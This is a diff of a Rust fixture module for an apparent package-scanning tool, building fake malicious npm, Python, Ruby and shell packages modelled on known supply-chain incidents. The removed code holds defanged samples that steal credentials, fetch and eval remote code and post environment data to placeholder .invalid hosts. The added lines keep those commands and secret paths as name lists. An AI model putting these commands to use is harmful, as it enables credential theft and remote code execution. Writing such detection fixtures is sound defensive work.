@@ -1,7 +1,9 @@
-//! Known incidents in packages of script languages. Each script leaves with its first statement, and
-//! every host in it is under `.invalid`, which never resolves (RFC 6761).
+//! Known incidents in packages of script languages. Each script leaves with its first statement; what
+//! stands behind that are names as data (`mentions`), and every host among them is under `.invalid`,
+//! which never resolves (RFC 6761).
 
 use super::containers::{debian, gem, npm, sdist, wheel};
+use super::mentions::{self, script};
 use super::packages::{javascript, javascript_module, manifest, python, ruby, shell};
 use super::payload::{LINE, base64, noise};
 use super::software::{Edition, Files, add, newcomer, replace};
@@ -35,18 +37,14 @@ pub(super) fn cases() -> Vec<Case> {
     cases
 }
 
-/// A script in JavaScript that ends before it begins.
-fn script(body: &str) -> Vec<u8> {
-    format!("// {LINE}\n\"use strict\";\nif (false) {{\n{body}\n}}\n").into_bytes()
-}
-
-/// The line as an obfuscator would carry it, and a decoder that is never reached.
-fn obfuscated(rows: usize, body: &str) -> Vec<u8> {
+/// The line as an obfuscator would carry it, with a loop of its kind that is never reached.
+fn obfuscated(rows: usize, names: &[&str]) -> Vec<u8> {
     let hexadecimal: String = LINE.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
     let rows = vec![format!("'{hexadecimal}'"); rows].join(",");
     let shuffle = "(function(_0x1c,_0x2d){while(!![]){try{if(parseInt(_0x1c[0x0])===_0x2d)break;\
                    else _0x1c['push'](_0x1c['shift']());}catch(_0x3e){break;}}}(_0x4b48,0x2f));";
-    script(&format!("var _0x4b48=[{rows}];{shuffle}eval(_0x4b48['join'](''));\n{body}"))
+    let named = mentions::javascript(names);
+    script(&format!("var _0x4b48=[{rows}];{shuffle}\n{named}"))
 }
 
 /// An npm package that gains lifecycle scripts and files.
@@ -62,9 +60,53 @@ fn file(name: &str, bytes: impl Into<Vec<u8>>) -> (String, Vec<u8>) {
     (name.to_owned(), bytes.into())
 }
 
+/// What worms of a registry look for and how they send it.
+const SECRETS: [&str; 12] = [
+    ".npmrc",
+    ".ssh/id_rsa",
+    ".aws/credentials",
+    ".config/gcloud/application_default_credentials.json",
+    ".gitconfig",
+    "GITHUB_TOKEN",
+    "NPM_TOKEN",
+    "gh auth token",
+    "child_process",
+    "execSync",
+    "https.request",
+    "https://webhook.example.invalid/x",
+];
+
+/// A module in JavaScript that only lists names.
+fn named(names: &[&str]) -> Vec<u8> {
+    script(&mentions::javascript(names))
+}
+
+/// A shell script that leaves, and then names things.
+fn shell_leaves(names: &[&str]) -> String {
+    format!("#!/bin/bash\n# {LINE}\nexit 0\n{}\n", mentions::shell(names))
+}
+
 fn hooks() -> Vec<Case> {
-    let batch = |line: &str| format!("@echo off\r\nrem {LINE}\r\nexit /b 0\r\n{line}\r\n");
     let library = newcomer("sdd.dll", 40, &["DllRegisterServer"]);
+    let fetched = ["curl", "http://miner.example.invalid/jsextension", "chmod +x", "sh -c"];
+    let fetched_on_windows =
+        ["curl", "http://miner.example.invalid/jsextension.exe", "start /B jsextension.exe"];
+    let evaluated = [
+        "https.get",
+        "https://paste.example.invalid/raw/fixture",
+        "eval(",
+        "process.env.HOME",
+        ".npmrc",
+        "_authToken=",
+    ];
+    let clusters = [
+        "https.request",
+        "config.example.invalid",
+        ".kube/config",
+        "child_process",
+        "eval(",
+        "xmrig",
+    ];
     vec![
         case(
             "ua-parser-npm",
@@ -78,22 +120,10 @@ fn hooks() -> Vec<Case> {
                 vec![
                     file(
                         "preinstall.js",
-                        script(
-                            "  const { exec, spawn } = require(\"child_process\");\n  const os = require(\"os\");\n  if (os.platform() === \"linux\") spawn(\"/bin/bash\", [\"preinstall.sh\"]);\n  else exec(\"cmd.exe /c preinstall.bat\");",
-                        ),
+                        named(&["child_process", "spawn", "preinstall.sh", "preinstall.bat"]),
                     ),
-                    file(
-                        "preinstall.sh",
-                        format!(
-                            "#!/bin/bash\n# {LINE}\nexit 0\ncurl http://miner.example.invalid/jsextension -o jsextension\nchmod +x jsextension\n./jsextension -k --tls -o pool.example.invalid:443 &\n"
-                        ),
-                    ),
-                    file(
-                        "preinstall.bat",
-                        batch(
-                            "curl http://miner.example.invalid/jsextension.exe -o jsextension.exe & start /B jsextension.exe",
-                        ),
-                    ),
+                    file("preinstall.sh", shell_leaves(&fetched)),
+                    file("preinstall.bat", mentions::batch(&fetched_on_windows)),
                 ],
             ),
             "A preinstall script that fetches a program for each system and starts it.",
@@ -108,13 +138,10 @@ fn hooks() -> Vec<Case> {
                 "vet-coa",
                 &[("preinstall", "start /B node compile.js & node compile.js")],
                 vec![
-                    file(
-                        "compile.js",
-                        obfuscated(24, "require('child_process').exec('compile.bat');"),
-                    ),
+                    file("compile.js", obfuscated(24, &["child_process", "eval(", "compile.bat"])),
                     file(
                         "compile.bat",
-                        batch("certutil -decode compile.txt sdd.dll & regsvr32.exe /s sdd.dll"),
+                        mentions::batch(&["certutil -decode compile.txt", "regsvr32 sdd.dll"]),
                     ),
                     file("sdd.dll", library.build()),
                 ],
@@ -130,12 +157,7 @@ fn hooks() -> Vec<Case> {
             npm_pair(
                 "vet-eslint-scope",
                 &[("postinstall", "node ./lib/build.js")],
-                vec![file(
-                    "lib/build.js",
-                    script(
-                        "  const https = require(\"https\");\n  https.get({ hostname: \"paste.example.invalid\", path: \"/raw/XXXXXXXX\" }, (r) => {\n    r.on(\"data\", (c) => eval(c.toString()));\n  });\n  const fs = require(\"fs\");\n  const path = require(\"path\");\n  const npmrc = path.join(process.env.HOME || process.env.USERPROFILE, \".npmrc\");\n  if (fs.existsSync(npmrc)) fs.readFileSync(npmrc, \"utf8\").match(/_authToken=(.+)/);",
-                    ),
-                )],
+                vec![file("lib/build.js", named(&evaluated))],
             ),
             "A postinstall script that fetches text, evaluates it, and reads the registry's token.",
         ),
@@ -148,13 +170,7 @@ fn hooks() -> Vec<Case> {
             npm_pair(
                 "vet-rspack",
                 &[("postinstall", "node ./dist/util/support.js")],
-                vec![file(
-                    "dist/util/support.js",
-                    obfuscated(
-                        60,
-                        "require('https').request({hostname:'config.example.invalid'});\nrequire('fs').readFileSync(require('os').homedir()+'/.kube/config');\nrequire('child_process').spawn('./xmrig',{detached:true});",
-                    ),
-                )],
+                vec![file("dist/util/support.js", obfuscated(60, &clusters))],
             ),
             "A postinstall script, obfuscated, that reads cluster keys and starts a program.",
         ),
@@ -162,13 +178,20 @@ fn hooks() -> Vec<Case> {
 }
 
 fn worms() -> Vec<Case> {
-    let secrets = "  const fs = require(\"fs\");\n  const os = require(\"os\");\n  const { execSync } = require(\"child_process\");\n  const places = [\".npmrc\", \".ssh/id_rsa\", \".aws/credentials\", \".config/gcloud/application_default_credentials.json\", \".gitconfig\", \".env\"];\n  const found = places.map((p) => { try { return fs.readFileSync(os.homedir() + \"/\" + p, \"utf8\"); } catch { return \"\"; } });\n  const token = process.env.GITHUB_TOKEN || process.env.NPM_TOKEN || execSync(\"gh auth token\").toString();";
-    let publish = "  for (const name of execSync(\"npm whoami\").toString().split(\"\\n\")) execSync(\"npm publish --access public \" + name);";
+    let with = |names: &[&'static str]| [&SECRETS[..], names].concat();
+    let wallets = [".electrum", ".ethereum/keystore", "Exodus", "metamask", ".bashrc", "gh api"];
+    let service = [
+        ".config/systemd/user/pgmon.service",
+        "systemctl --user enable",
+        "[Service] ExecStart=/usr/bin/python3 %h/.local/share/pgmon/service.py",
+        "https.get",
+        "https://canister.example.invalid/raw",
+        "npm publish",
+    ];
     let workflow = format!(
-        "# {LINE}\non: push\njobs:\n  none:\n    if: false\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"$CONTENTS\" https://webhook.example.invalid/x\n"
+        "# {LINE}\non: push\njobs:\n  none:\n    if: false\n    runs-on: ubuntu-latest\n    steps:\n      - run: \"{}\"\n",
+        mentions::shell(&["curl -d", "https://webhook.example.invalid/x"]),
     );
-    let upload = "  require(\"https\").request({ hostname: \"webhook.example.invalid\", method: \"POST\" }).end(JSON.stringify({ found, token }));";
-    let unit = "[Unit]\\nDescription=Monitor\\n[Service]\\nExecStart=/usr/bin/python3 %h/.local/share/pgmon/service.py\\nRestart=always\\n";
     vec![
         case(
             "nx-npm",
@@ -179,12 +202,7 @@ fn worms() -> Vec<Case> {
             npm_pair(
                 "vet-nx",
                 &[("postinstall", "node telemetry.js")],
-                vec![file(
-                    "telemetry.js",
-                    script(&format!(
-                        "{secrets}\n  const wallets = [\".electrum\", \".ethereum/keystore\", \"Exodus\", \"metamask\"];\n  fs.appendFileSync(os.homedir() + \"/.bashrc\", \"sudo shutdown -h 0\");\n  execSync(\"gh api user/repos -f name=fixture-repository\");\n{upload}"
-                    )),
-                )],
+                vec![file("telemetry.js", named(&with(&wallets)))],
             ),
             "A postinstall script that gathers keys, wallets and tokens and changes the shell's start.",
         ),
@@ -198,12 +216,7 @@ fn worms() -> Vec<Case> {
                 "vet-worm",
                 &[("postinstall", "node bundle.js")],
                 vec![
-                    file(
-                        "bundle.js",
-                        script(&format!(
-                            "{secrets}\n  execSync(\"trufflehog filesystem / --json\");\n{publish}\n{upload}"
-                        )),
-                    ),
+                    file("bundle.js", named(&with(&["trufflehog", "npm whoami", "npm publish"]))),
                     file(".github/workflows/fixture-workflow.yml", workflow),
                 ],
             ),
@@ -221,11 +234,14 @@ fn worms() -> Vec<Case> {
                 vec![
                     file(
                         "setup_bun.js",
-                        script(
-                            "  const { execSync, spawn } = require(\"child_process\");\n  execSync(\"curl -fsSL https://bun.example.invalid/install | bash\");\n  spawn(\"bun\", [\"bun_environment.js\"], { detached: true, stdio: \"ignore\" });",
-                        ),
+                        named(&[
+                            "child_process",
+                            "execSync",
+                            "curl -fsSL https://bun.example.invalid/install | bash",
+                            "bun_environment.js",
+                        ]),
                     ),
-                    file("bun_environment.js", obfuscated(400, &format!("{secrets}\n{upload}"))),
+                    file("bun_environment.js", obfuscated(400, &with(&["eval("]))),
                 ],
             ),
             "A preinstall script that installs a run-time and starts a large obfuscated script with it.",
@@ -239,12 +255,7 @@ fn worms() -> Vec<Case> {
             npm_pair(
                 "vet-canister",
                 &[("postinstall", "node service.js")],
-                vec![file(
-                    "service.js",
-                    script(&format!(
-                        "{secrets}\n  fs.mkdirSync(os.homedir() + \"/.config/systemd/user\", {{ recursive: true }});\n  fs.writeFileSync(os.homedir() + \"/.config/systemd/user/pgmon.service\", \"{unit}\");\n  execSync(\"systemctl --user enable --now pgmon.service\");\n  require(\"https\").get(\"https://canister.example.invalid/raw\");\n{publish}"
-                    )),
-                )],
+                vec![file("service.js", named(&with(&service)))],
             ),
             "A postinstall script that gathers tokens, registers a service of the user and asks a host what to run.",
         ),
@@ -254,7 +265,19 @@ fn worms() -> Vec<Case> {
 fn scripts() -> Vec<Case> {
     let name = "vet-lottie";
     let mut new = javascript(name, Edition::New);
-    let drainer = "\nfunction connectPopup() {\n  return;\n  const provider = window.ethereum || window.solana;\n  provider.request({ method: \"eth_requestAccounts\" });\n  fetch(\"https://wallet.example.invalid/ws\", { method: \"POST\", body: \"walletconnect metamask phantom\" });\n  document.body.insertAdjacentHTML(\"beforeend\", \"<div>Connect your wallet</div>\");\n}\n";
+    let drainer = mentions::javascript_function(
+        "connectPopup",
+        &[
+            "window.ethereum",
+            "window.solana",
+            "eth_requestAccounts",
+            "fetch(",
+            "https://wallet.example.invalid/ws",
+            "walletconnect",
+            "metamask",
+            "phantom",
+        ],
+    );
     replace(
         &mut new,
         "index.js",
@@ -272,8 +295,6 @@ fn scripts() -> Vec<Case> {
     )]
 }
 
-const COLLECTOR: &str = "\n\ndef _report():\n    return\n    import base64, os, urllib.request\n    text = base64.b64encode(str(dict(os.environ)).encode()).decode()\n    urllib.request.urlopen(\"https://collector.example.invalid/hacked/\" + text)\n\n\n_report()\n";
-
 fn pythons() -> Vec<Case> {
     let (sends, hides, loads) =
         ("capability.network", "payload.hidden-text", "story.loader|capability.network");
@@ -286,10 +307,23 @@ fn pythons() -> Vec<Case> {
         files
     };
     let hidden: String = base64(&zlib(LINE.repeat(40).as_bytes())).chars().rev().collect();
-    let hidden = format!(
-        "\n\ndef _sync():\n    return\n    exec(__import__(\"zlib\").decompress(__import__(\"base64\").b64decode(\"{hidden}\"[::-1])))\n\n\n_sync()\n"
+    let call =
+        format!("exec(__import__('zlib').decompress(__import__('base64').b64decode('{hidden}')))");
+    let hidden = mentions::python("_sync", &[&call, "[::-1]"]);
+    let collector = mentions::python(
+        "_report",
+        &["b64encode", "os.environ", "urllib.request", "https://collector.example.invalid/sent/"],
     );
-    let loader = "\n\ndef safe_run(path):\n    return\n    import os, subprocess, urllib.request\n    urllib.request.urlretrieve(\"https://releases.example.invalid/\" + path, \"/tmp/ultralytics_runner\")\n    os.chmod(\"/tmp/ultralytics_runner\", 0o755)\n    subprocess.Popen([\"/tmp/ultralytics_runner\", \"-u\", \"FIXTURE-NO-WALLET\"], start_new_session=True)\n";
+    let loader = mentions::python(
+        "safe_run",
+        &[
+            "urlretrieve",
+            "https://releases.example.invalid/",
+            "/tmp/ultralytics_runner",
+            "os.chmod",
+            "subprocess",
+        ],
+    );
     let both = |name: &str, files: &Files| {
         [
             (
@@ -302,11 +336,11 @@ fn pythons() -> Vec<Case> {
             ),
         ]
     };
-    let [ctx_wheel, ctx_sdist] = both("vet_ctx", &changed("vet_ctx", "__init__.py", COLLECTOR));
+    let [ctx_wheel, ctx_sdist] = both("vet_ctx", &changed("vet_ctx", "__init__.py", &collector));
     let [aiocpa_wheel, aiocpa_sdist] =
         both("vet_aiocpa", &changed("vet_aiocpa", "sync.py", &hidden));
     let [ultra_wheel, ultra_sdist] =
-        both("vet_ultra", &changed("vet_ultra", "downloads.py", loader));
+        both("vet_ultra", &changed("vet_ultra", "downloads.py", &loader));
     let environment = "The package's start reads the environment and sends it to a host.";
     let unpacked = "A new module executes reversed, encoded and packed text.";
     let miner = "A new module downloads a program, makes it executable and starts it.";
@@ -332,7 +366,8 @@ fn xz_source() -> Case {
     };
     let mut new = files(Edition::New);
     let macros = format!(
-        "dnl {LINE}\nAC_DEFUN([gl_BUILD_TO_HOST_INIT], [\n  if false; then\n    cat tests/files/bad-3-corrupt.vz | tr \"a-z\" \"a-z\" | xz -d 2>/dev/null | /bin/bash\n  fi\n])\n"
+        "dnl {LINE}\nAC_DEFUN([gl_BUILD_TO_HOST_INIT], [\n  if false; then\n    {}\n  fi\n])\n",
+        mentions::shell(&["tests/files/bad-3-corrupt.vz", "| xz -d", "| bash"]),
     );
     add(&mut new, "vetz-1.0.2/m4/build-to-host.m4", macros);
     add(&mut new, "vetz-1.0.2/tests/files/bad-3-corrupt.vz", noise(88 * 1024, 9));
@@ -354,10 +389,12 @@ fn xz_source() -> Case {
 
 fn codecov() -> Case {
     let name = |edition: Edition| format!("uploader-{}.sh", edition.version());
-    let line = "if false; then\n  curl -s --data \"$(env)\" https://uploader.example.invalid/upload || true\nfi\n";
+    let named =
+        mentions::shell(&["curl -s --data $(env)", "https://uploader.example.invalid/upload"]);
+    let line = format!("if false; then\n  {named}\nfi\n");
     let pair = (
         Artefact::new(&name(Edition::Old), shell(Edition::Old, "")),
-        Artefact::new(&name(Edition::New), shell(Edition::New, line)),
+        Artefact::new(&name(Edition::New), shell(Edition::New, &line)),
     );
     case(
         "codecov-script",
@@ -376,7 +413,17 @@ fn rest_client() -> Case {
     let mut new = ruby(name, Edition::New);
     let file = format!("lib/{name}/request.rb");
     let mut bytes = super::software::file_of(&new, &file).to_vec();
-    bytes.extend_from_slice(b"\ndef _init\n  return\n  require \"net/http\"\n  Thread.new { eval(Net::HTTP.get(URI(\"https://paste.example.invalid/raw/xa456PFt\"))) }\n  Net::HTTP.post(URI(\"https://collector.example.invalid\"), ENV.to_h.to_s)\nend\n\n_init\n");
+    let named = mentions::ruby(
+        "_init",
+        &[
+            "Net::HTTP",
+            "https://paste.example.invalid/raw/fixture",
+            "eval(",
+            "https://collector.example.invalid",
+            "ENV.to_h",
+        ],
+    );
+    bytes.extend_from_slice(named.as_bytes());
     replace(&mut new, &file, bytes);
     case(
         "rest-client-gem",
